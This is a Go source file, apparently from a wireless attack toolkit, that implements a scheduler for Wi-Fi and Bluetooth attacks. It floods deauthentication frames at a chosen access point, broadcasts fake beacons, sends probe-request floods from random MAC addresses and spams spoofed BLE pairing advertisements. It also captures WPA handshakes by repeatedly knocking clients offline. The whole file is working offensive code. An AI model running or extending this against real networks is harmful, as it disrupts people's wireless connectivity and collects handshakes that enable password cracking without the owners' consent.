package attack

import (
	"context"
	"errors"
	"fmt"
	"log/slog"
	"sync"
	"time"

	"github.com/google/uuid"
	"github.com/lcalzada-xor/wraith/internal/adapters/handshake"
	"github.com/lcalzada-xor/wraith/internal/adapters/injection"
	"github.com/lcalzada-xor/wraith/internal/adapters/radio"
	"github.com/lcalzada-xor/wraith/internal/core/domain"
	"github.com/lcalzada-xor/wraith/internal/core/ports"
	"github.com/lcalzada-xor/wraith/internal/core/services/spoofer"
	"github.com/lcalzada-xor/wraith/internal/telemetry"
	"go.opentelemetry.io/otel/attribute"
	"go.opentelemetry.io/otel/codes"
	"go.opentelemetry.io/otel/trace"
)

const (
	DefaultWiFiInterval  = 50 * time.Millisecond
	DefaultBLEInterval   = 100 * time.Millisecond
	DeauthResendInterval = 5 * time.Second

	// failures are logged on the first occurrence and then every failureLogEvery
	failureLogEvery = 50
)

// Config holds the scheduler cadences. Zero values select the defaults.
type Config struct {
	WiFiInterval time.Duration
	BLEInterval  time.Duration
	DeauthResend time.Duration
	// Now stamps session start/stop; ticks carry their own time.
	Now func() time.Time
}

func (c Config) withDefaults() Config {
	if c.WiFiInterval <= 0 {
		c.WiFiInterval = DefaultWiFiInterval
	}
	if c.BLEInterval <= 0 {
		c.BLEInterval = DefaultBLEInterval
	}
	if c.DeauthResend <= 0 {
		c.DeauthResend = DeauthResendInterval
	}
	if c.Now == nil {
		c.Now = time.Now
	}
	return c
}

// step is one position of the rotation plan.
type step struct {
	channel domain.Channel
	bssid   domain.MACAddress
	ssid    string
	vendor  domain.Vendor
}

// Capture is a completed handshake together with the EAPOL frames retained
// for it.
type Capture struct {
	State  domain.HandshakeState
	Frames []domain.Frame
}

// Engine is the tick-driven attack scheduler. It owns one AttackSession at a
// time; starting a new attack replaces the running one.
type Engine struct {
	mu      sync.Mutex
	radio   *radio.Session
	monitor *handshake.Monitor
	spoofer *spoofer.Spoofer
	rng     ports.RandomSource
	cfg     Config

	session  *domain.AttackSession
	plan     []step
	interval time.Duration
	lastSend time.Time
	sent     bool

	// handshake capture
	target     domain.MACAddress
	lastDeauth time.Time
	deauthed   bool
	captured   *domain.HandshakeState
	completed  []Capture

	finished []domain.AttackSession

	span   trace.Span
	tracer trace.Tracer
	logger *slog.Logger
}

// NewEngine wires the scheduler to an acquired radio session. A nil monitor
// gets a private one.
func NewEngine(rs *radio.Session, monitor *handshake.Monitor, rng ports.RandomSource, cfg Config) *Engine {
	if monitor == nil {
		monitor = handshake.NewMonitor()
	}
	return &Engine{
		radio:   rs,
		monitor: monitor,
		spoofer: spoofer.New(rng),
		rng:     rng,
		cfg:     cfg.withDefaults(),
		tracer:  telemetry.Tracer("attack"),
		logger:  slog.With("component", "attack"),
	}
}

// Monitor returns the handshake monitor fed by handshake capture.
func (e *Engine) Monitor() *handshake.Monitor {
	return e.monitor
}

// StartDeauth floods broadcast deauthentication frames for bssid.
func (e *Engine) StartDeauth(bssid domain.MACAddress, channel domain.Channel) error {
	if err := channel.Validate(); err != nil {
		return err
	}
	plan := []step{{channel: channel, bssid: bssid}}
	return e.startWiFi(domain.AttackDeauth, &bssid, plan, nil)
}

// StartBeaconSpam advertises every SSID on every channel, one fake access
// point per SSID.
func (e *Engine) StartBeaconSpam(ssids []string, channels []domain.Channel) error {
	plan, err := e.crossPlan(ssids, channels, true)
	if err != nil {
		return err
	}
	return e.startWiFi(domain.AttackBeaconSpam, nil, plan, nil)
}

// StartProbeFlood sends probe requests for every SSID on every channel from
// random source addresses.
func (e *Engine) StartProbeFlood(ssids []string, channels []domain.Channel) error {
	plan, err := e.crossPlan(ssids, channels, false)
	if err != nil {
		return err
	}
	return e.startWiFi(domain.AttackProbeFlood, nil, plan, nil)
}

// StartHandshakeCapture listens for bssid's 4-way handshake on channel and
// periodically deauthenticates its clients to provoke one.
func (e *Engine) StartHandshakeCapture(bssid domain.MACAddress, channel domain.Channel) error {
	if err := channel.Validate(); err != nil {
		return err
	}
	plan := []step{{channel: channel, bssid: bssid}}
	return e.startWiFi(domain.AttackHandshakeCapture, &bssid, plan, e.monitor.HandleFrame)
}

// StartBLESpam advertises vendor's pairing payload from a new identity on
// every send.
func (e *Engine) StartBLESpam(vendor domain.Vendor) error {
	if _, err := e.spoofer.Profile(vendor); err != nil {
		return err
	}
	return e.startBLE(domain.AttackBLESpam, vendor, []step{{vendor: vendor}})
}

// StartBLESpamAll rotates through every vendor profile.
func (e *Engine) StartBLESpamAll() error {
	profiles := e.spoofer.Profiles()
	if len(profiles) == 0 {
		return fmt.Errorf("%w: no vendor profiles", domain.ErrNoTargets)
	}
	plan := make([]step, len(profiles))
	for i, p := range profiles {
		plan[i] = step{vendor: p.Vendor}
	}
	return e.startBLE(domain.AttackBLESpamAll, "", plan)
}

func (e *Engine) crossPlan(ssids []string, channels []domain.Channel, fakeAP bool) ([]step, error) {
	if len(ssids) == 0 {
		return nil, fmt.Errorf("%w: no SSIDs", domain.ErrNoTargets)
	}
	if len(channels) == 0 {
		return nil, fmt.Errorf("%w: no channels", domain.ErrNoTargets)
	}
	for _, ssid := range ssids {
		if err := domain.ValidateSSID(ssid); err != nil {
			return nil, err
		}
	}
	for _, ch := range channels {
		if err := ch.Validate(); err != nil {
			return nil, err
		}
	}

	plan := make([]step, 0, len(ssids)*len(channels))
	for _, ssid := range ssids {
		var bssid domain.MACAddress
		if fakeAP {
			bssid = e.spoofer.GenerateRandomMAC()
		}
		for _, ch := range channels {
			plan = append(plan, step{channel: ch, bssid: bssid, ssid: ssid})
		}
	}
	return plan, nil
}

func (e *Engine) startWiFi(t domain.AttackType, target *domain.MACAddress, plan []step, capture ports.CaptureFunc) error {
	e.mu.Lock()
	defer e.mu.Unlock()

	e.stopLocked()
	if !e.radio.HasWiFi() {
		return e.failStartLocked(t, target, "", &domain.RadioError{Op: "start " + string(t), Err: errors.New("no wifi radio")})
	}

	if capture != nil {
		e.monitor.StartSession(*target, plan[0].channel, e.cfg.Now())
	}
	if err := e.radio.InstallWiFi(radio.WiFiConfig{Channel: plan[0].channel, Capture: capture}); err != nil {
		if capture != nil {
			e.monitor.EndSession(*target)
		}
		return e.failStartLocked(t, target, "", err)
	}

	e.begin(t, target, "", plan, e.cfg.WiFiInterval)
	return nil
}

func (e *Engine) startBLE(t domain.AttackType, vendor domain.Vendor, plan []step) error {
	e.mu.Lock()
	defer e.mu.Unlock()

	e.stopLocked()
	if !e.radio.HasBLE() {
		return e.failStartLocked(t, nil, vendor, &domain.RadioError{Op: "start " + string(t), Err: errors.New("no ble radio")})
	}
	e.begin(t, nil, vendor, plan, e.cfg.BLEInterval)
	return nil
}

// failStartLocked records a start the radio refused as a failed session. The
// previous attack has already been stopped.
func (e *Engine) failStartLocked(t domain.AttackType, target *domain.MACAddress, vendor domain.Vendor, err error) error {
	now := e.cfg.Now()
	s := domain.NewAttackSession(uuid.NewString(), t)
	s.Vendor = vendor
	if target != nil {
		tg := *target
		s.Target = &tg
	}
	s.StartTime = now
	s.Fail(now, err)

	e.session = s
	e.plan = nil
	e.captured = nil
	e.finished = append(e.finished, *s)
	e.logger.Warn("Attack failed to start", "id", s.ID, "type", t, "error", err)
	return err
}

func (e *Engine) begin(t domain.AttackType, target *domain.MACAddress, vendor domain.Vendor, plan []step, interval time.Duration) {
	now := e.cfg.Now()
	s := domain.NewAttackSession(uuid.NewString(), t)
	s.Vendor = vendor
	if target != nil {
		tg := *target
		s.Target = &tg
		e.target = tg
	}
	_ = s.Start(now)

	e.session = s
	e.plan = plan
	e.interval = interval
	e.sent = false
	e.deauthed = false
	e.captured = nil

	_, e.span = e.tracer.Start(context.Background(), "attack."+string(t), trace.WithAttributes(
		attribute.String("attack.id", s.ID),
		attribute.Int("attack.plan_size", len(plan)),
	))
	telemetry.AttackRunning.WithLabelValues(string(t)).Set(1)
	e.logger.Info("Attack started", "id", s.ID, "type", t, "steps", len(plan), "interval", interval)
}

// ExecuteTick runs one scheduler iteration at now. It never blocks beyond a
// single radio operation; a tick that arrives before the interval has elapsed
// does nothing.
func (e *Engine) ExecuteTick(now time.Time) {
	e.mu.Lock()
	defer e.mu.Unlock()

	if e.session == nil || !e.session.IsActive() {
		return
	}
	if e.session.Type == domain.AttackHandshakeCapture {
		e.tickHandshake(now)
		return
	}
	if !e.due(now) {
		return
	}
	e.lastSend = now
	e.sent = true
	e.dispatch(e.plan[e.session.RotationIndex])
}

func (e *Engine) due(now time.Time) bool {
	return !e.sent || now.Sub(e.lastSend) >= e.interval
}

// tickHandshake polls for completion on the primary cadence and re-sends the
// deauth on its own timer.
func (e *Engine) tickHandshake(now time.Time) {
	if e.due(now) {
		e.lastSend = now
		e.sent = true
		e.pollHandshakeLocked()
	}
	if e.captured != nil {
		return
	}
	if e.deauthed && now.Sub(e.lastDeauth) < e.cfg.DeauthResend {
		return
	}
	e.lastDeauth = now
	e.deauthed = true
	e.dispatch(e.plan[0])
}

func (e *Engine) pollHandshakeLocked() {
	for _, st := range e.monitor.TakeCompleted() {
		frames := e.monitor.Frames(st.BSSID)
		e.completed = append(e.completed, Capture{State: st, Frames: frames})
		if st.BSSID == e.target && e.captured == nil {
			latched := st
			e.captured = &latched
			e.span.AddEvent("handshake.complete", trace.WithAttributes(
				attribute.String("bssid", st.BSSID.String()),
				attribute.Int("eapol_packets", st.EAPOLPackets),
			))
		}
	}
}

func (e *Engine) dispatch(st step) {
	t := e.session.Type
	var err error
	switch t {
	case domain.AttackDeauth, domain.AttackHandshakeCapture:
		err = e.radio.SetChannelAndSend(injection.BuildDeauth(st.bssid), st.channel)
	case domain.AttackBeaconSpam:
		var frame domain.Frame
		if frame, err = injection.BuildBeacon(st.bssid, st.ssid, st.channel); err == nil {
			err = e.radio.SetChannelAndSend(frame, st.channel)
		}
	case domain.AttackProbeFlood:
		var frame domain.Frame
		if frame, err = injection.BuildProbeRequest(st.ssid, st.channel, e.rng); err == nil {
			err = e.radio.SetChannelAndSend(frame, st.channel)
		}
	case domain.AttackBLESpam, domain.AttackBLESpamAll:
		var adv domain.BLEAdvertisement
		if adv, err = e.spoofer.Next(st.vendor); err == nil {
			err = e.radio.StartAdvertising(adv)
		}
	default:
		err = fmt.Errorf("unsupported attack type %q", t)
	}

	if err != nil {
		e.session.RecordFailure()
		telemetry.TransmitFailures.WithLabelValues(string(t)).Inc()
		if n := e.session.TransmitFailures; n == 1 || n%failureLogEvery == 0 {
			e.logger.Warn("Transmit failed", "type", t, "failures", n, "error", err)
		}
		return
	}
	e.session.RecordSend(len(e.plan))
	telemetry.FramesSent.WithLabelValues(string(t)).Inc()
}

// Stop ends the running attack, disables capture and returns the final
// session. Stopping when idle returns the last session unchanged.
func (e *Engine) Stop() domain.AttackSession {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.stopLocked()
	if e.session == nil {
		return domain.AttackSession{}
	}
	return *e.session
}

func (e *Engine) stopLocked() {
	if e.session == nil || !e.session.IsActive() {
		return
	}
	s := e.session
	now := e.cfg.Now()

	var err error
	if s.Type.IsBLE() {
		err = e.radio.StopAdvertising()
	} else {
		err = e.radio.ClearWiFi()
	}
	if s.Type == domain.AttackHandshakeCapture {
		e.pollHandshakeLocked()
		e.monitor.EndSession(e.target)
	}
	s.Stop(now)
	e.finished = append(e.finished, *s)

	if err != nil {
		e.logger.Warn("Radio teardown failed", "type", s.Type, "error", err)
		e.span.SetStatus(codes.Error, err.Error())
	}
	e.span.SetAttributes(
		attribute.Int64("attack.packets_sent", int64(s.PacketsSent)),
		attribute.Int64("attack.transmit_failures", int64(s.TransmitFailures)),
	)
	e.span.End()
	telemetry.AttackRunning.WithLabelValues(string(s.Type)).Set(0)
	e.logger.Info("Attack stopped", "id", s.ID, "type", s.Type,
		"packets_sent", s.PacketsSent, "failures", s.TransmitFailures, "duration", s.Duration(now))
}

// IsRunning reports whether an attack is active.
func (e *Engine) IsRunning() bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.session != nil && e.session.IsActive()
}

// PacketsSent returns the running (or last) session's send counter.
func (e *Engine) PacketsSent() uint64 {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.session == nil {
		return 0
	}
	return e.session.PacketsSent
}

// CurrentAttack returns the active attack type, or AttackNone.
func (e *Engine) CurrentAttack() domain.AttackType {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.session == nil || !e.session.IsActive() {
		return domain.AttackNone
	}
	return e.session.Type
}

// Session returns a snapshot of the running (or last) session.
func (e *Engine) Session() (domain.AttackSession, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.session == nil {
		return domain.AttackSession{}, false
	}
	return *e.session, true
}

// Handshake is the polled completion signal. It returns the capture state of
// the current target and whether all four messages have been seen.
func (e *Engine) Handshake() (domain.HandshakeState, bool) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if e.captured != nil {
		return *e.captured, true
	}
	if e.session == nil || e.session.Type != domain.AttackHandshakeCapture {
		return domain.HandshakeState{}, false
	}
	st, _ := e.monitor.State(e.target)
	return st, false
}

// TakeCaptures drains completed handshakes. Each completion is returned once.
func (e *Engine) TakeCaptures() []Capture {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := e.completed
	e.completed = nil
	return out
}

// TakeFinished drains sessions that ended since the last call, whether by
// Stop or by being replaced.
func (e *Engine) TakeFinished() []domain.AttackSession {
	e.mu.Lock()
	defer e.mu.Unlock()
	out := e.finished
	e.finished = nil
	return out
}
